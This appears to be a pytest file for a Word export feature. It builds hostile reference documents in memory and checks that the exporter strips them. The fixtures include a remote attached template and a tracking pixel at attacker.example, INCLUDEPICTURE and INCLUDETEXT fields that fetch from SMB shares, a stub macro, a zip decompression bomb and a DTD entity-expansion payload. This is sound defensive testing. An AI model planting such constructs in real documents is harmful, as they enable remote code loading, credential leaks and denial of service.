"""Word reference documents from others: everything that reaches outside the document, runs
code or hides data is taken out of every export, and the user is told what was removed.

The hostile documents are built in memory from the built-in reference document."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import docx
import pytest

from clock_helpers import TODAY
from render_helpers import make_library, make_submission, make_template
from tccm_drafter.errors import InputError
from tccm_drafter.render.docx_export import DocxExporter
from tccm_drafter.render.docx_package import MAX_UNPACKED_BYTES
from tccm_drafter.render.pipeline import render_submission
from tccm_drafter.storage.paths import builtin_templates_dir

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
EXTERNAL_TARGETS = [
    "http://attacker.example/template.dotm",
    "http://attacker.example/pixel.png",
    "file://host/share/logo.png",
    "smb://host/share/doc",
    "file://host/share/data.xlsx",
]
SECRET = "OLD LETTER BODY SECRET"

HEADER_EXTRA = (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
    'drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/'
    'drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/'
    'drawingml/2006/picture"><pic:blipFill><a:blip r:link="rIdRemote"/></pic:blipFill></pic:pic>'
    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
    'r:id="rIdShare" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'o:href="file://host/share/other.png"/></v:shape></w:pict></w:r></w:p>'
    '<w:p><w:hyperlink r:id="rIdSmb"><w:r><w:t>Our share</w:t></w:r></w:hyperlink>'
    '<w:hyperlink r:id="rIdWeb"><w:r><w:t>Our website</w:t></w:r></w:hyperlink></w:p>'
    "<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"http://attacker.example/x.png\" \\d '>"
    "<w:r><w:t>picture</w:t></w:r></w:fldSimple></w:p>"
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT '
    '"\\\\\\\\host\\\\share\\\\x.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>'
    "</w:r></w:p>"
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
    'drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/'
    'drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/'
    'drawingml/2006/picture"><pic:blipFill><a:blip r:embed="rIdLogo"/></pic:blipFill></pic:pic>'
    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)
HEADER_RELS = (
    f'<Relationship Id="rIdRemote" Type="{R}/image" Target="http://attacker.example/pixel.png" '
    'TargetMode="External"/>'
    f'<Relationship Id="rIdShare" Type="{R}/image" Target="file://host/share/logo.png" '
    'TargetMode="External"/>'
    f'<Relationship Id="rIdSmb" Type="{R}/hyperlink" Target="smb://host/share/doc" '
    'TargetMode="External"/>'
    f'<Relationship Id="rIdWeb" Type="{R}/hyperlink" Target="https://org.example/" '
    'TargetMode="External"/>'
    f'<Relationship Id="rIdLogo" Type="{R}/image" Target="media/logo.png"/>'
)
SETTINGS_EXTRA = (
    '<w:attachedTemplate r:id="rIdTemplate"/><w:linkStyles/>'
    '<w:documentProtection w:edit="readOnly" w:enforcement="1"/>'
    '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource r:id="rIdData"/>'
    "</w:mailMerge>"
    '<w:docVars><w:docVar w:name="owner" w:val="hidden value"/></w:docVars>'
)
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


def builtin_members() -> dict[str, bytes]:
    with zipfile.ZipFile(builtin_templates_dir() / "reference.docx") as package:
        return {name: package.read(name) for name in package.namelist()}


def add_rels(xml: bytes, extra: str) -> bytes:
    return xml.replace(b"</Relationships>", extra.encode() + b"</Relationships>")


def hostile_members() -> dict[str, bytes]:
    m = builtin_members()
    # settings: remote attached template, mail merge from a share, document variables...
    m["word/settings.xml"] = re.sub(
        rb"(<w:settings[^>]*>)",
        lambda x: x.group(1) + SETTINGS_EXTRA.encode(),
        m["word/settings.xml"],
    )
    if b'xmlns:r="' not in m["word/settings.xml"][:2000]:
        m["word/settings.xml"] = m["word/settings.xml"].replace(
            b"<w:settings ", f'<w:settings xmlns:r="{R}" '.encode(), 1
        )
    m["word/_rels/settings.xml.rels"] = (
        f'<?xml version="1.0"?><Relationships xmlns="{PKG}">'
        f'<Relationship Id="rIdTemplate" Type="{R}/attachedTemplate" '
        'Target="http://attacker.example/template.dotm" TargetMode="External"/>'
        f'<Relationship Id="rIdData" Type="{R}/mailMergeSource" '
        'Target="file://host/share/data.xlsx" TargetMode="External"/></Relationships>'
    ).encode()
    # header: remote and share images, links, fetching fields, and one embedded logo
    header = m["word/header1.xml"]
    if b'xmlns:r="' not in header[:2000]:
        header = header.replace(b"<w:hdr ", f'<w:hdr xmlns:r="{R}" '.encode(), 1)
    m["word/header1.xml"] = header.replace(b"</w:hdr>", HEADER_EXTRA.encode() + b"</w:hdr>")
    m["word/_rels/header1.xml.rels"] = (
        f'<?xml version="1.0"?><Relationships xmlns="{PKG}">{HEADER_RELS}</Relationships>'
    ).encode()
    m["word/media/logo.png"] = PNG
    m["word/media/old.png"] = PNG
    # the old body, with its own picture
    m["word/document.xml"] = m["word/document.xml"].replace(
        b"<w:body>", f"<w:body><w:p><w:r><w:t>{SECRET}</w:t></w:r></w:p>".encode(), 1
    )
    # macros, custom properties, a thumbnail and an old app.xml
    m["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0macro"
    m["word/_rels/document.xml.rels"] = add_rels(
        m["word/_rels/document.xml.rels"],
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="vbaProject.bin"/>'
        f'<Relationship Id="rIdOld" Type="{R}/image" Target="media/old.png"/>'
        f'<Relationship Id="rIdGlossary" Type="{R}/glossaryDocument" Target="glossary.xml"/>',
    )
    m["word/glossary.xml"] = b'<?xml version="1.0"?><w:glossaryDocument xmlns:w="x"/>'
    m["docProps/custom.xml"] = b'<?xml version="1.0"?><Properties><p>hidden value</p></Properties>'
    m["docProps/thumbnail.jpeg"] = b"\xff\xd8\xff old letterhead preview"
    m["docProps/app.xml"] = m["docProps/app.xml"].replace(
        b"</Properties>", b"<Company>Secret Corp</Company></Properties>"
    )
    m["_rels/.rels"] = add_rels(
        m["_rels/.rels"],
        f'<Relationship Id="rIdCustom" Type="{R}/custom-properties" Target="docProps/custom.xml"/>'
        '<Relationship Id="rIdThumb" Type="http://schemas.openxmlformats.org/package/2006/'
        'relationships/metadata/thumbnail" Target="docProps/thumbnail.jpeg"/>',
    )
    m["[Content_Types].xml"] = (
        m["[Content_Types].xml"]
        .replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        )
        .replace(
            b"</Types>",
            b'<Default Extension="png" ContentType="image/png"/>'
            b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            b'<Override PartName="/docProps/custom.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.custom-properties+xml"/></Types>',
        )
    )
    return m


def zip_of(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as package:
        for name, data in members.items():
            package.writestr(name, data)
    return out.getvalue()


def export_with(tmp_path: Path, reference: bytes) -> tuple[dict[str, bytes], list[str]]:
    path = tmp_path / "letterhead.docx"
    path.write_bytes(reference)
    result = render_submission(
        make_submission(), make_library(), make_template(tmp_path / "t"), today=TODAY
    )
    warnings = DocxExporter(path).write(result.document, tmp_path / "out.docx")
    with zipfile.ZipFile(tmp_path / "out.docx") as package:
        members = {name: package.read(name) for name in package.namelist()}
    return members, [str(w) for w in warnings]


def test_hostile_reference_document_is_cleaned(tmp_path: Path) -> None:
    members, warnings = export_with(tmp_path, zip_of(hostile_members()))
    everything = b"\n".join(members.values())
    for target in [*EXTERNAL_TARGETS, "attacker.example", "host/share", "hidden value"]:
        assert target.encode() not in everything, target
    assert b"Secret Corp" not in everything and SECRET.encode() not in everything
    external = [
        rel
        for name, data in members.items()
        if name.endswith(".rels")
        for rel in re.findall(rb"<Relationship [^>]*>", data)
        if b"External" in rel
    ]
    # Only the header's web link and the submission's own link stay live.
    assert sorted(re.search(rb'Target="([^"]*)"', r).group(1) for r in external) == [  # type: ignore[union-attr]
        b"https://example.org/igf",
        b"https://org.example/",
    ]
    names = set(members)
    unwanted = ("vba", "docprops/custom", "thumbnail")
    assert not {n for n in names if any(u in n.lower() for u in unwanted)}
    # The only custom XML left is the export's own map of blocks for the review round trip.
    from tccm_drafter.model.review_marks import MAP_NAMESPACE

    custom = [n for n in names if n.startswith("customXml/item") and "Props" not in n]
    assert all(MAP_NAMESPACE.encode() in members[n] for n in custom if n.endswith(".xml"))
    assert "word/glossary.xml" not in names and "word/media/old.png" not in names
    types = members["[Content_Types].xml"]
    assert b"macroEnabled" not in types and b"vbaProject" not in types
    assert b"<Application>TCCM Drafter</Application>" in members["docProps/app.xml"]
    # What lays out the page is still there: header text and logo, styles, page set-up.
    assert "word/media/logo.png" in names
    assert (
        b"Our website" in members["word/header1.xml"] and b"picture" in members["word/header1.xml"]
    )
    assert b"<w:pgSz" in members["word/document.xml"]
    style_ids = re.compile(rb'w:styleId="([^"]+)"')
    original = set(style_ids.findall(builtin_members()["word/styles.xml"]))
    assert original and original <= set(style_ids.findall(members["word/styles.xml"]))
    settings = members["word/settings.xml"]
    for element in (b"attachedTemplate", b"mailMerge", b"docVars", b"documentProtection"):
        assert element not in settings
    joined = "\n".join(warnings)
    for what in (
        "its link to another template",
        "macros",
        "hidden document properties",
        "mail-merge data sources",
        "hidden document variables",
        "editing restrictions",
        "fields that fetch content from outside the file",
        "links that fetch content from outside the file",
        "saved building blocks",
    ):
        assert f"Word reference document letterhead.docx: left out {what}" in joined, what
    assert "removed" not in joined and "custom XML" not in joined
    assert "INCLUDEPICTURE" in joined and "INCLUDETEXT" in joined
    word = docx.Document(str(tmp_path / "out.docx"))  # python-docx reads it back
    assert word.sections[0].header.paragraphs


@pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice")
def test_cleaned_export_opens_in_libreoffice(tmp_path: Path) -> None:
    export_with(tmp_path, zip_of(hostile_members()))
    done = subprocess.run(
        [
            "soffice",
            "--headless",
            "--convert-to",
            "txt:Text (encoded):UTF8",
            "--outdir",
            str(tmp_path),
            str(tmp_path / "out.docx"),
        ],
        capture_output=True,
        timeout=180,
        check=False,
        env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
    )
    assert done.returncode == 0
    assert "Response to the review" in (tmp_path / "out.txt").read_text(encoding="utf-8-sig")


def test_builtin_reference_gives_no_warnings(tmp_path: Path) -> None:
    result = render_submission(
        make_submission(), make_library(), make_template(tmp_path / "t"), today=TODAY
    )
    assert DocxExporter().write(result.document, tmp_path / "out.docx") == []


@pytest.mark.parametrize(
    ("method", "name"), [(zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "lzma")]
)
def test_only_stored_and_deflate_members_are_read(tmp_path: Path, method: int, name: str) -> None:
    path = tmp_path / f"{name}.docx"
    path.write_bytes(zip_of(builtin_members(), method))
    result = render_submission(
        make_submission(), make_library(), make_template(tmp_path / "t"), today=TODAY
    )
    with pytest.raises(InputError) as caught:
        DocxExporter(path).build(result.document)
    assert "compressed with a method other than deflate" in str(caught.value)
    assert str(caught.value).startswith(str(path))


def test_decompression_bomb_is_stopped_by_the_budget(tmp_path: Path) -> None:
    members = builtin_members()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in members.items():
            package.writestr(name, data)
        with package.open("word/media/bomb.png", "w") as bomb:
            zeros = bytes(1 << 20)
            for _ in range(MAX_UNPACKED_BYTES // len(zeros) + 8):
                bomb.write(zeros)
    assert len(out.getvalue()) < 1 << 20  # under a megabyte on disk
    path = tmp_path / "bomb.docx"
    path.write_bytes(out.getvalue())
    result = render_submission(
        make_submission(), make_library(), make_template(tmp_path / "t"), today=TODAY
    )
    with pytest.raises(InputError, match=r"'word/media/bomb\.png' of the Word file cannot be used"):
        DocxExporter(path).build(result.document)


def test_a_part_with_a_dtd_is_refused(tmp_path: Path) -> None:
    members = builtin_members()
    members["word/styles.xml"] = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
        + members["word/styles.xml"].split(b"?>", 1)[1]
    )
    path = tmp_path / "dtd.docx"
    path.write_bytes(zip_of(members))
    result = render_submission(
        make_submission(), make_library(), make_template(tmp_path / "t"), today=TODAY
    )
    with pytest.raises(InputError, match="declares a DTD"):
        DocxExporter(path).build(result.document)


def test_a_reference_that_is_not_a_regular_file_is_refused(tmp_path: Path) -> None:
    result = render_submission(
        make_submission(), make_library(), make_template(tmp_path / "t"), today=TODAY
    )
    with pytest.raises(InputError, match="this is a folder, not a file"):
        DocxExporter(tmp_path).build(result.document)
    if sys.platform == "linux":
        with pytest.raises(InputError, match="not an ordinary file"):
            DocxExporter(Path("/dev/zero")).build(result.document)
